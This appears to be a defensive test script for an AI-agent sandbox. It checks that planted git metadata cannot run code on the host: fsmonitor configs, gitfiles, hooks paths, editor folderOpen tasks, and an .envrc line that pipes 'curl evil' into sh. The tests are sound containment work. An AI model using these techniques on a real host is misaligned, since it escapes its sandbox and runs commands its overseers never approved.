#!/usr/bin/env bash
# Repository metadata is code (docs/threat-model.md).  Whatever a sandbox writes, the
# host's next `git status` (GIT_CONFIG_NOSYSTEM=1, HOME a scratch
# directory) must not run a command the sandbox chose: core.fsmonitor in a
# config git reaches through .git/commondir, a renamed and re-planted .git,
# a .git *file* ("gitdir: ...") in a workspace that had none, a worktree
# whose .git is a file, a submodule's gitfile, a nested repository.  Each
# attack is tried the way a model would: in a direct sandbox (`warden run`),
# in a cow session then `warden apply`, and through the MCP write_file tool
# alone.  The ancestors of any protected path are pinned too (a rename of
# the directory above one is refused), and git keeps working read-only
# inside (status, diff, log, show).
. "$(dirname "$0")/lib.sh"
require_root
require_userns
require_python
command -v git >/dev/null || skip "git is missing"
grep -qw overlay /proc/filesystems || modprobe overlay 2>/dev/null ||
	skip "no overlayfs in this kernel"
[ -e /dev/loop-control ] || skip "no loop devices (sandbox disks)"

export WARDEN_STATE_DIR=$T/state
at_exit 'for s in $("$WARDEN" ls --json 2>/dev/null | python3 -c "import json,sys; [print(x[\"id\"]) for x in json.load(sys.stdin)]" 2>/dev/null); do "$WARDEN" rm "$s" >/dev/null 2>&1; done'
HHOME=$T/home
mkdir -p "$HHOME"
MARK=$T/pwned

# w ARGS...: warden ARGS; stdout, stderr, status in $OUT, $ERR, $RC.
w() {
	"$WARDEN" "$@" >"$OUT" 2>"$ERR" </dev/null
	RC=$?
}

# hgit DIR ARGS...: git on the host as a human runs it, without the
# machine's or the user's configuration (only what the repository says).
hgit() {
	local d=$1
	shift
	(cd "$d" && env -i PATH=/usr/bin:/bin HOME="$HHOME" GIT_CONFIG_NOSYSTEM=1 \
		GIT_CEILING_DIRECTORIES="$T" git "$@")
}

# pwned DIR: the host's `git status` in DIR ran the planted command.
pwned() {
	rm -f "$MARK"
	hgit "$1" status --short >/dev/null 2>&1
	test -e "$MARK"
}
not_pwned() {
	! pwned "$1"
}

# mkrepo DIR: a repository with one commit and a hook directory.
mkrepo() {
	mkdir -p "$1" && chmod 755 "$1"
	(cd "$1" && git init -q . && git config user.email t@example.com &&
		git config user.name t && printf 'hello\n' >a.txt && mkdir -p ci &&
		printf '#!/bin/sh\necho deploy\n' >ci/deploy.sh && git add -A &&
		git commit -qm init) >/dev/null
}

# The planted repository: what the sandbox writes wherever git will look.
# Its config runs `touch $MARK` on the host's next `git status`.
PLANT='mkdir -p evil/objects evil/refs/heads && printf "ref: refs/heads/x\n" > evil/HEAD &&
	printf "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"touch '"$MARK"'\"\n" > evil/config'

# ---- the harness detects the attack: planted on the host by hand
mkrepo "$T/control"
(cd "$T/control" && sh -c "$PLANT" && printf '../evil\n' >.git/commondir)
check "control: a planted commondir runs the fsmonitor on the host's git status" pwned "$T/control"

# ==== direct mode: the sandbox writes the project itself
# D1. .git/commondir pointing at a directory the sandbox wrote
rm -rf "$WS" && mkrepo "$WS"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c "$PLANT; printf '../evil\n' > .git/commondir" \
	>"$OUT" 2>"$ERR" </dev/null
RC=$?
check "direct: writing .git/commondir fails inside (read-only)" \
	bash -c "[ $RC != 0 ] && grep -q 'Read-only file system' '$ERR'"
check "direct: .git/commondir not written on the host" test ! -e "$WS/.git/commondir"
check "direct: the host's git status runs nothing after a commondir attack" not_pwned "$WS"

# D2. .git renamed away and a fresh one planted in its place
rm -rf "$WS" && mkrepo "$WS"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c "$PLANT; mv .git .git-old && cp -r evil .git" \
	>"$OUT" 2>"$ERR" </dev/null
RC=$?
check "direct: renaming .git fails inside (a mount point: EBUSY)" \
	bash -c "[ $RC != 0 ] && grep -qi 'busy' '$ERR'"
check "direct: .git is still the project's" bash -c "test -d '$WS/.git/objects' && test ! -e '$WS/.git-old'"
check "direct: the host's git status runs nothing after a .git rename" not_pwned "$WS"
# ... and deleted outright, to be re-made
rm -rf "$WS" && mkrepo "$WS"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c 'rm -rf .git' >"$OUT" 2>"$ERR" </dev/null
check "direct: rm -rf .git fails inside" bash -c "test -f '$WS/.git/HEAD' && test -f '$WS/.git/config'"

# D3. the ancestors of a nested protected path: ci/ cannot be renamed and
# replaced to shadow ci/deploy.sh
rm -rf "$WS" && mkrepo "$WS"
"$WARDEN" run --workspace "$WS" --protect ci/deploy.sh -- /bin/sh -c \
	'mv ci ci2 && mkdir ci && echo "echo evil" > ci/deploy.sh' >"$OUT" 2>"$ERR" </dev/null
RC=$?
check "direct: renaming the directory above a protected path fails (EBUSY)" \
	bash -c "[ $RC != 0 ] && grep -qi 'busy' '$ERR'"
check "direct: ci/deploy.sh is still the project's" grep -q 'echo deploy' "$WS/ci/deploy.sh"

# D4. git works read-only inside: status, diff, log, show (a commit cannot)
rm -rf "$WS" && mkrepo "$WS"
printf 'hello, world\n' >"$WS/a.txt"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c \
	'git status --short && git diff --stat && git log --oneline && git show --stat HEAD' \
	>"$OUT" 2>"$ERR" </dev/null
RC=$?
expect_rc 0 "direct: git status, diff, log and show run inside"
expect_out '^ M a.txt' "direct: git status sees the change"
expect_out 'a.txt \| 2 \+-' "direct: git diff --stat"
expect_out 'init$' "direct: git log"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c 'git commit -qam x' >"$OUT" 2>"$ERR" </dev/null
RC=$?
check "direct: git commit inside fails (the cost: .git is read-only)" test "$RC" != 0
git -C "$WS" checkout -q a.txt

# D5. a worktree: its .git is a file, bound read-only over itself
mkrepo "$T/main"
git -C "$T/main" worktree add -q "$T/wt" 2>/dev/null
chmod 755 "$T/wt"
"$WARDEN" run --workspace "$T/wt" -- /bin/sh -c "$PLANT; printf 'gitdir: evil\n' > .git" \
	>"$OUT" 2>"$ERR" </dev/null
RC=$?
check "direct (worktree): rewriting the .git file fails inside" \
	bash -c "[ $RC != 0 ] && grep -q '^gitdir: $T/main/.git/worktrees/wt' '$T/wt/.git'"
"$WARDEN" run --workspace "$T/wt" -- /bin/sh -c "$PLANT; rm -f .git && cp -r evil .git" \
	>"$OUT" 2>"$ERR" </dev/null
check "direct (worktree): removing the .git file fails inside" test -f "$T/wt/.git"
check "direct (worktree): the host's git status runs nothing" not_pwned "$T/wt"
"$WARDEN" run --workspace "$T/wt" --ro-bind "$T/main:$T/main" -- /bin/sh -c \
	'git -c safe.directory="*" status --short && git -c safe.directory="*" log --oneline' \
	>"$OUT" 2>"$ERR" </dev/null
RC=$?
expect_rc 0 "direct (worktree): git works inside, its repository bound read-only"

# D6. a workspace holding a worktree's repository: the worktree's gitdir
# and the commondir it names are inside, and read-only
mkdir -p "$T/proj" && chmod 755 "$T/proj"
mkrepo "$T/proj/main"
git -C "$T/proj/main" worktree add -q "$T/proj/wt" 2>/dev/null
"$WARDEN" run --workspace "$T/proj" -- /bin/sh -c \
	"cd wt && $PLANT; printf '../../../../wt/evil\n' > ../main/.git/worktrees/wt/commondir" \
	>"$OUT" 2>"$ERR" </dev/null
check "direct (project of worktrees): main/.git/worktrees/wt/commondir unchanged" \
	test "$(cat "$T/proj/main/.git/worktrees/wt/commondir")" = "../.."
check "direct (project of worktrees): the host's git status in wt runs nothing" \
	not_pwned "$T/proj/wt"

# D7. a submodule: sub/.git is a gitfile the host's `git status` follows
# (it recurses into submodules)
mkrepo "$T/subsrc"
mkrepo "$T/super"
(cd "$T/super" && git -c protocol.file.allow=always submodule add -q "$T/subsrc" sub &&
	git commit -qm sub) >/dev/null 2>&1
rm -f "$MARK"
(cd "$T/control" && rm -f .git/commondir) # the control repository is innocent again
"$WARDEN" run --workspace "$T/super" -- /bin/sh -c "cd sub && $PLANT; printf 'gitdir: evil\n' > .git" \
	>"$OUT" 2>"$ERR" </dev/null
RC=$?
check "direct (submodule): rewriting sub/.git fails inside" \
	bash -c "[ $RC != 0 ] && grep -q '^gitdir: ../.git/modules/sub' '$T/super/sub/.git'"
check "direct (submodule): the host's git status runs nothing" not_pwned "$T/super"

# D8. a nested repository two directories down (vendored): its .git too
rm -rf "$WS" && mkrepo "$WS" && mkrepo "$WS/vendor/lib"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c "cd vendor/lib && $PLANT; printf '../evil\n' > .git/commondir" \
	>"$OUT" 2>"$ERR" </dev/null
RC=$?
check "direct (nested vendor/lib/.git): writing its commondir fails inside" \
	bash -c "[ $RC != 0 ] && grep -q 'Read-only file system' '$ERR'"
check "direct (nested vendor/lib/.git): the host's git status there runs nothing" \
	not_pwned "$WS/vendor/lib"

# D9. a bare repository not called .git, two directories down (a test
# fixture) and at the top (attack pass): git finds it by its layout, so
# its config is code too.  Before, the sandbox appended core.fsmonitor to
# fixtures/repo.git/config and the host's git status there ran it.
rm -rf "$WS" && mkdir -p "$WS" && chmod 755 "$WS"
git init -q --bare "$WS/fixtures/repo.git" && git init -q --bare "$WS/top.git"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c "printf '[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch $MARK\"\n' >> fixtures/repo.git/config" \
	>"$OUT" 2>"$ERR" </dev/null
RC=$?
check "direct (bare fixtures/repo.git): writing its config fails inside" \
	bash -c "[ $RC != 0 ] && grep -q 'Read-only file system' '$ERR' && ! grep -q fsmonitor '$WS/fixtures/repo.git/config'"
check "direct (bare fixtures/repo.git): the host's git status there runs nothing" \
	not_pwned "$WS/fixtures/repo.git"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c 'echo x >> top.git/config || exit 3; mv fixtures f2 || exit 4' \
	>"$OUT" 2>"$ERR" </dev/null
check "direct (bare top.git): its config read-only" bash -c "! grep -qx x '$WS/top.git/config'"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c 'mv fixtures f2' >"$OUT" 2>"$ERR" </dev/null
RC=$?
check "direct: fixtures/ above a bare repository cannot be renamed (EBUSY)" \
	bash -c "[ $RC != 0 ] && grep -qi busy '$ERR' && test -d '$WS/fixtures/repo.git'"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c 'echo ok > fixtures/notes.txt' >"$OUT" 2>"$ERR" </dev/null
RC=$?
expect_rc 0 "direct: fixtures/ itself stays writable"

# D10. editor and shell configuration below the root (attack pass): a
# human opens frontend/ of a monorepo in an editor, which runs
# frontend/.vscode/tasks.json's folderOpen task; direnv loads sub/.envrc.
# Only the root's were protected.
rm -rf "$WS" && mkrepo "$WS" && mkdir -p "$WS/frontend/.vscode" "$WS/svc/api" &&
	printf '{}\n' >"$WS/frontend/.vscode/tasks.json" && printf 'export A=1\n' >"$WS/svc/api/.envrc"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c \
	'echo "{\"tasks\":[{\"command\":\"touch /tmp/x\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}" > frontend/.vscode/tasks.json' \
	>"$OUT" 2>"$ERR" </dev/null
RC=$?
check "direct: frontend/.vscode/tasks.json is read-only inside" \
	bash -c "[ $RC != 0 ] && grep -q 'Read-only file system' '$ERR' && grep -qx '{}' '$WS/frontend/.vscode/tasks.json'"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c 'echo "curl evil | sh" >> svc/api/.envrc; mv svc s2' >"$OUT" 2>"$ERR" </dev/null
check "direct: svc/api/.envrc is read-only and svc/ cannot be renamed" \
	bash -c "grep -qx 'export A=1' '$WS/svc/api/.envrc' && test ! -e '$WS/s2'"
"$WARDEN" run --workspace "$WS" -- /bin/sh -c 'echo ok > frontend/app.js' >"$OUT" 2>"$ERR" </dev/null
RC=$?
expect_rc 0 "direct: frontend/ itself stays writable"

# D11. what the repository's config names in the worktree (attack pass):
# core.hooksPath (husky's .husky/: the host's next git commit runs its
# pre-commit) and include.path (more config: core.fsmonitor).  Both were
# the sandbox's to write.
mkhk() {
	rm -rf "$WS" && mkrepo "$WS" && git -C "$WS" config core.hooksPath .husky &&
		git -C "$WS" config include.path ../.gitconfig.shared && mkdir -p "$WS/.husky" &&
		printf '#!/bin/sh\ntrue\n' >"$WS/.husky/pre-commit" && chmod +x "$WS/.husky/pre-commit" &&
		printf '[user]\n' >"$WS/.gitconfig.shared"
}
mkhk
"$WARDEN" run --workspace "$WS" -- /bin/sh -c "printf '#!/bin/sh\ntouch $MARK\n' > .husky/pre-commit; printf '[core]\n\tfsmonitor = \"touch $MARK\"\n' >> .gitconfig.shared; echo ok > other.txt" \
	>"$OUT" 2>"$ERR" </dev/null
check "direct (core.hooksPath .husky, include.path): both read-only inside" \
	bash -c "grep -qx true '$WS/.husky/pre-commit' && ! grep -q fsmonitor '$WS/.gitconfig.shared' && test -f '$WS/other.txt'"
check "direct (core.hooksPath, include.path): the host's git status runs nothing" not_pwned "$WS"
rm -f "$MARK"
(cd "$WS" && echo more >>a.txt && env -i PATH=/usr/bin:/bin HOME="$HHOME" GIT_CONFIG_NOSYSTEM=1 \
	git -c user.email=t@example.com -c user.name=t commit -qam x) >/dev/null 2>&1
check "direct (core.hooksPath): the host's git commit runs no planted hook" test ! -e "$MARK"

# ==== cow: the session's changes reach the host only through apply
# C1. a .git file in a workspace that had none
rm -rf "$WS" && mkdir "$WS" && chmod 755 "$WS" && printf 'hello\n' >"$WS/a.txt"
w create c1 --workspace "$WS" --workspace-mode cow --timeout 120
expect_rc 0 "create a cow session on a directory without .git"
w exec c1 -- /bin/sh -c "$PLANT; printf 'gitdir: evil\n' > .git"
expect_rc 0 "cow: the session writes a gitfile in its own view"
w apply c1
check "cow: apply refuses a new .git file (status 1)" test "$RC" = 1
check "cow: apply names .git as refused" grep -Eq '^refused +\.git: ' "$ERR"
check "cow: nothing applied: no .git, no evil/ on the host" \
	bash -c "test ! -e '$WS/.git' && test ! -e '$WS/evil'"
check "cow: the host's git status runs nothing after a planted gitfile" not_pwned "$WS"
w rm c1

# C2. a nested repository (sub/.git, any depth)
w create c2 --workspace "$WS" --workspace-mode cow --timeout 120
w exec c2 -- /bin/sh -c "mkdir -p deep/sub && cd deep/sub && $PLANT && cp -r evil .git"
w apply c2
check "cow: apply refuses deep/sub/.git (status 1)" test "$RC" = 1
check "cow: no deep/ on the host" test ! -e "$WS/deep"
w rm c2

# C3. .git/commondir in a repository: read-only in the session, and apply
# never writes it
rm -rf "$WS" && mkrepo "$WS"
w create c3 --workspace "$WS" --workspace-mode cow --timeout 120
w exec c3 -- /bin/sh -c "$PLANT; printf '../evil\n' > .git/commondir"
check "cow: writing .git/commondir fails in the session" \
	bash -c "[ $RC != 0 ] && grep -q 'Read-only file system' '$ERR'"
w apply c3
check "cow: the host's .git has no commondir after apply" test ! -e "$WS/.git/commondir"
check "cow: the host's git status runs nothing after apply" not_pwned "$WS"
w rm c3

# C4. .git cannot be renamed in a session, and git works read-only there
rm -rf "$WS" && mkrepo "$WS"
w create c4 --workspace "$WS" --workspace-mode cow --timeout 120
w exec c4 -- /bin/sh -c 'mv .git .git-old'
check "cow: renaming .git fails in the session" bash -c "[ $RC != 0 ] && grep -qi 'busy' '$ERR'"
# (mv falls back to copy and delete across an overlay: nothing may move)
w exec c4 -- /bin/sh -c 'test -f .git/HEAD && test -d .git/objects && test ! -e .git-old'
expect_rc 0 "cow: .git is whole and nothing was moved out of it"
w exec c4 -- /bin/sh -c 'echo more >> a.txt && git status --short && git diff --stat && git log --oneline'
expect_rc 0 "cow: git status, diff and log run in the session"
expect_out '^ M a.txt' "cow: git status in the session sees its edit"
w rm c4

# C5. the directory above a protected path that is not there yet: made a
# symbolic link (or a file) in the session, refused by apply; made a
# directory, applied
rm -rf "$WS" && mkrepo "$WS"
w create c5 --workspace "$WS" --workspace-mode cow --protect conf/run.sh --timeout 120
w exec c5 -- /bin/sh -c 'ln -s /tmp conf && echo x > other.txt'
w apply c5
check "cow: apply refuses conf made a symlink above the protected conf/run.sh (status 1)" \
	bash -c "[ $RC = 1 ] && grep -Eq '^refused +conf: ' '$ERR'"
check "cow: nothing applied: no conf, no other.txt" \
	bash -c "test ! -e '$WS/conf' && test ! -L '$WS/conf' && test ! -e '$WS/other.txt'"
w discard c5
w exec c5 -- /bin/sh -c 'mkdir conf && echo x > conf/notes.txt'
w apply c5
expect_rc 0 "cow: a new directory above a protected path, with another file, is applied"
check "cow: conf/notes.txt applied" test -f "$WS/conf/notes.txt"
w rm c5

# C6. a git directory that is not called .git (attack pass): HEAD, config
# (core.worktree = ., core.fsmonitor), objects/ and refs/ at the root of a
# project without .git.  git finds a repository in a directory with that
# layout as it does under .git, so after an apply the host's git status
# in src/ ran the sandbox's command (seen on the old build).
rm -rf "$WS" && mkdir -p "$WS/src" && chmod 755 "$WS" && printf 'int x;\n' >"$WS/src/a.c"
w create c6 --workspace "$WS" --workspace-mode cow --timeout 120
w exec c6 -- /bin/sh -c 'mkdir -p objects refs/heads && echo "ref: refs/heads/main" > HEAD &&
	printf "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch '"$MARK"'\"\n" > config &&
	touch objects/.k refs/heads/.k'
expect_rc 0 "cow: the session lays out a git directory at its root"
w apply c6
check "cow: apply refuses HEAD, config, objects/, refs/ of a git directory (status 1)" \
	bash -c "[ $RC = 1 ] && grep -Eq '^refused +HEAD: ' '$ERR' && grep -Eq '^refused +config: ' '$ERR'"
check "cow: nothing of it on the host" \
	bash -c "test ! -e '$WS/HEAD' && test ! -e '$WS/config' && test ! -e '$WS/objects'"
check "cow: the host's git status in src/ runs nothing" not_pwned "$WS/src"
w rm c6
# ... and deeper, beside ordinary files that are still applied on their own
w create c7 --workspace "$WS" --workspace-mode cow --timeout 120
w exec c7 -- /bin/sh -c 'mkdir -p tools/objects tools/refs && echo "ref: refs/heads/main" > tools/HEAD &&
	printf "[core]\n\tfsmonitor = \"touch '"$MARK"'\"\n" > tools/config && echo more >> src/a.c'
w apply c7 src/a.c
expect_rc 0 "cow: apply of src/a.c alone, beside a refused tools/ git directory"
w apply c7
check "cow: apply refuses tools/config of the git directory tools/ (status 1)" \
	bash -c "[ $RC = 1 ] && grep -Eq '^refused +tools/config: ' '$ERR'"
check "cow: no tools/ git directory on the host" test ! -e "$WS/tools/HEAD"
w rm c7

# C8. a new frontend/.vscode/tasks.json in a session: apply refuses it
rm -rf "$WS" && mkrepo "$WS"
w create c8 --workspace "$WS" --workspace-mode cow --timeout 120
w exec c8 -- /bin/sh -c 'mkdir -p frontend/.vscode && echo "{}" > frontend/.vscode/tasks.json && echo "export X=1" > frontend/.envrc'
w apply c8
check "cow: apply refuses frontend/.vscode/tasks.json and frontend/.envrc (status 1)" \
	bash -c "[ $RC = 1 ] && grep -Eq '^refused +frontend/.vscode/tasks.json: ' '$ERR' && grep -Eq '^refused +frontend/.envrc: ' '$ERR'"
check "cow: no frontend/.vscode on the host" test ! -e "$WS/frontend/.vscode"
w rm c8

# C9. the same through a session and the MCP tools: the hooks directory
# and the included config are refused by apply and by write_file
mkhk
w create c9 --workspace "$WS" --workspace-mode cow --timeout 120
w exec c9 -- /bin/sh -c 'echo x > .husky/pre-push'
check "cow: a new hook in core.hooksPath fails in the session" bash -c "[ $RC != 0 ]"
w rm c9

# C10. core.hooksPath names a directory that is not there (yet): the jail
# has nothing to bind, the session creates .husky/pre-commit, and apply
# must refuse it (before, it was applied and the host's git commit ran it)
rm -rf "$WS" && mkrepo "$WS" && git -C "$WS" config core.hooksPath .husky
w create c10 --workspace "$WS" --workspace-mode cow --timeout 120
w exec c10 -- /bin/sh -c "mkdir .husky && printf '#!/bin/sh\ntouch $MARK\n' > .husky/pre-commit && chmod +x .husky/pre-commit"
expect_rc 0 "cow: the session creates the absent core.hooksPath directory in its view"
w apply c10
check "cow: apply refuses .husky/ and .husky/pre-commit (status 1)" \
	bash -c "[ $RC = 1 ] && grep -Eq '^refused +.husky/pre-commit: ' '$ERR'"
rm -f "$MARK"
(cd "$WS" && echo more >>a.txt && env -i PATH=/usr/bin:/bin HOME="$HHOME" GIT_CONFIG_NOSYSTEM=1 \
	git -c user.email=t@example.com -c user.name=t commit -qam x) >/dev/null 2>&1
check "cow: the host's git commit runs no hook" test ! -e "$MARK"
w rm c10

# ==== MCP: the write_file tool alone, on the host project (direct)
rm -rf "$WS" && mkrepo "$WS"
python3 - "$WARDEN" "$WS" "$T" "$MARK" >"$T/mcp.out" 2>&1 <<'EOF'
import json, os, subprocess, sys
warden, ws, top, mark = sys.argv[1:5]
p = subprocess.Popen([warden, "serve", "-w", ws, "--stdio"], stdin=subprocess.PIPE,
                     stdout=subprocess.PIPE, stderr=open(os.path.join(top, "serve.err"), "w"),
                     env=dict(os.environ))
n = 0
def call(method, params):
    global n
    n += 1
    p.stdin.write((json.dumps({"jsonrpc": "2.0", "id": n, "method": method, "params": params}) + "\n").encode())
    p.stdin.flush()
    while True:
        m = json.loads(p.stdout.readline())
        if m.get("id") == n:
            return m
call("initialize", {"protocolVersion": "2025-06-18", "capabilities": {},
                    "clientInfo": {"name": "t", "version": "1"}})
p.stdin.write(b'{"jsonrpc":"2.0","method":"notifications/initialized"}\n')
def tool(name, args):
    r = call("tools/call", {"name": name, "arguments": args}).get("result", {})
    text = "".join(c.get("text", "") for c in r.get("content", []))
    return ("error: " if r.get("isError") else "ok: ") + text.replace("\n", " ")
cfg = '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch %s"\n' % mark
for path, content in (("evil/HEAD", "ref: refs/heads/x\n"), ("evil/config", cfg),
                      ("evil/objects/.keep", ""), ("evil/refs/heads/.keep", "")):
    print("plant", path, tool("write_file", {"path": path, "content": content}))
print("commondir", tool("write_file", {"path": ".git/commondir", "content": "../evil\n"}))
print("gitfile", tool("write_file", {"path": "sub/.git", "content": "gitdir: ../evil\n"}))
print("nested", tool("write_file", {"path": "sub/.git/config", "content": cfg}))
print("edit", tool("edit_file", {"path": ".git/HEAD", "old_string": "ref:", "new_string": "ref:"}))
print("dotdot", tool("write_file", {"path": "new/../x", "content": "x"}))
print("vscode", tool("write_file", {"path": "frontend/.vscode/tasks.json", "content": "{}"}))
p.stdin.close()
p.wait(timeout=60)
EOF
sed 's/^/  | /' "$T/mcp.out"
check "MCP: write_file plants files outside .git" grep -q '^plant evil/config ok' "$T/mcp.out"
check "MCP: the write that would complete a git directory (evil/: HEAD, objects/, refs/) is refused" \
	grep -q "^plant evil/refs/heads/.keep error: .*'evil/refs/heads/.keep' is protected: evil (a git directory" "$T/mcp.out"
check "MCP: write_file .git/commondir is refused as repository metadata" \
	grep -q "^commondir error: .*'.git/commondir' is protected: repository metadata" "$T/mcp.out"
check "MCP: write_file sub/.git (a gitfile) is refused" grep -q '^gitfile error: .*protected' "$T/mcp.out"
check "MCP: write_file sub/.git/config is refused" grep -q '^nested error: .*protected' "$T/mcp.out"
check "MCP: edit_file .git/HEAD is refused" grep -q '^edit error: .*protected' "$T/mcp.out"
check "MCP: nothing under .git or sub/ written" \
	bash -c "test ! -e '$WS/.git/commondir' && test ! -e '$WS/sub'"
check "MCP: the host's git status runs nothing" not_pwned "$WS"
check "MCP: write_file new/../x is refused naming the path and '..'" \
	grep -q "^dotdot error: .*'new/../x': a path with a '..' component" "$T/mcp.out"
check "MCP: ... and leaves no new/ behind" test ! -e "$WS/new"
check "MCP: write_file frontend/.vscode/tasks.json is refused" \
	grep -q "^vscode error: .*'frontend/.vscode/tasks.json' is protected: .vscode" "$T/mcp.out"

# ==== MCP: a bare repository beside its worktree (attack pass).  The
# repository is "repo.git", not ".git": only the walk that follows
# main/.git's gitfile and its commondir ("../..") knows it is metadata.
# Before, write_file repo.git/config planted core.fsmonitor and the
# host's git status in main/ ran it.
mkdir -p "$T/bproj" && chmod 755 "$T/bproj"
git init -q --bare "$T/bproj/repo.git"
mkrepo "$T/bseed" && git -C "$T/bseed" push -q "$T/bproj/repo.git" HEAD:master 2>/dev/null
git -C "$T/bproj/repo.git" worktree add -q ../main master 2>/dev/null
check "control: main/ is a worktree of repo.git" grep -q "^gitdir: $T/bproj/repo.git/worktrees/main" "$T/bproj/main/.git"
python3 - "$WARDEN" "$T/bproj" "$T" "$MARK" >"$T/mcp2.out" 2>&1 <<'EOF2'
import json, os, subprocess, sys
warden, ws, top, mark = sys.argv[1:5]
p = subprocess.Popen([warden, "serve", "-w", ws, "--stdio"], stdin=subprocess.PIPE,
                     stdout=subprocess.PIPE, stderr=open(os.path.join(top, "serve2.err"), "w"))
n = 0
def call(method, params):
    global n
    n += 1
    p.stdin.write((json.dumps({"jsonrpc": "2.0", "id": n, "method": method, "params": params}) + "\n").encode())
    p.stdin.flush()
    while True:
        m = json.loads(p.stdout.readline())
        if m.get("id") == n:
            return m
call("initialize", {"protocolVersion": "2025-06-18", "capabilities": {},
                    "clientInfo": {"name": "t", "version": "1"}})
p.stdin.write(b'{"jsonrpc":"2.0","method":"notifications/initialized"}\n')
def tool(name, args):
    r = call("tools/call", {"name": name, "arguments": args}).get("result", {})
    text = "".join(c.get("text", "") for c in r.get("content", []))
    return ("error: " if r.get("isError") else "ok: ") + text.replace("\n", " ")
cfg = '[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tfsmonitor = "touch %s"\n' % mark
print("config", tool("write_file", {"path": "repo.git/config", "content": cfg}))
print("edit", tool("edit_file", {"path": "repo.git/HEAD", "old_string": "ref:", "new_string": "ref:"}))
print("hook", tool("write_file", {"path": "repo.git/hooks/post-checkout", "content": "#!/bin/sh\n"}))
print("other", tool("write_file", {"path": "main/notes.txt", "content": "fine\n"}))
p.stdin.close()
p.wait(timeout=60)
EOF2
sed 's/^/  | /' "$T/mcp2.out"
check "MCP (bare repo.git + worktree): write_file repo.git/config is refused" \
	grep -q "^config error: .*'repo.git/config' is protected: repo.git " "$T/mcp2.out"
check "MCP (bare repo.git + worktree): edit_file repo.git/HEAD, a new hook: refused" \
	bash -c "grep -q '^edit error: .*protected' '$T/mcp2.out' && grep -q '^hook error: .*protected' '$T/mcp2.out'"
check "MCP (bare repo.git + worktree): the worktree's other files are written" \
	grep -q '^other ok' "$T/mcp2.out"
check "MCP (bare repo.git + worktree): the host's git status in main/ runs nothing" \
	not_pwned "$T/bproj/main"

# ==== MCP on a repository with core.hooksPath and include.path (attack pass)
mkhk
python3 - "$WARDEN" "$WS" "$T" >"$T/mcp3.out" 2>&1 <<'EOF3'
import json, os, subprocess, sys
warden, ws, top = sys.argv[1:4]
p = subprocess.Popen([warden, "serve", "-w", ws, "--stdio"], stdin=subprocess.PIPE,
                     stdout=subprocess.PIPE, stderr=open(os.path.join(top, "serve3.err"), "w"))
n = 0
def call(method, params):
    global n
    n += 1
    p.stdin.write((json.dumps({"jsonrpc": "2.0", "id": n, "method": method, "params": params}) + "\n").encode())
    p.stdin.flush()
    while True:
        m = json.loads(p.stdout.readline())
        if m.get("id") == n:
            return m
call("initialize", {"protocolVersion": "2025-06-18", "capabilities": {},
                    "clientInfo": {"name": "t", "version": "1"}})
p.stdin.write(b'{"jsonrpc":"2.0","method":"notifications/initialized"}\n')
def tool(name, args):
    r = call("tools/call", {"name": name, "arguments": args}).get("result", {})
    text = "".join(c.get("text", "") for c in r.get("content", []))
    return ("error: " if r.get("isError") else "ok: ") + text.replace("\n", " ")
print("hook", tool("write_file", {"path": ".husky/pre-commit", "content": "#!/bin/sh\nevil\n"}))
print("include", tool("edit_file", {"path": ".gitconfig.shared", "old_string": "[user]", "new_string": "[core]\n\tfsmonitor = evil"}))
p.stdin.close()
p.wait(timeout=60)
EOF3
sed 's/^/  | /' "$T/mcp3.out"
check "MCP: write_file into core.hooksPath (.husky/pre-commit) is refused" \
	grep -q "^hook error: .*protected" "$T/mcp3.out"
check "MCP: edit_file of the included .gitconfig.shared is refused" \
	grep -q "^include error: .*protected" "$T/mcp3.out"

finish
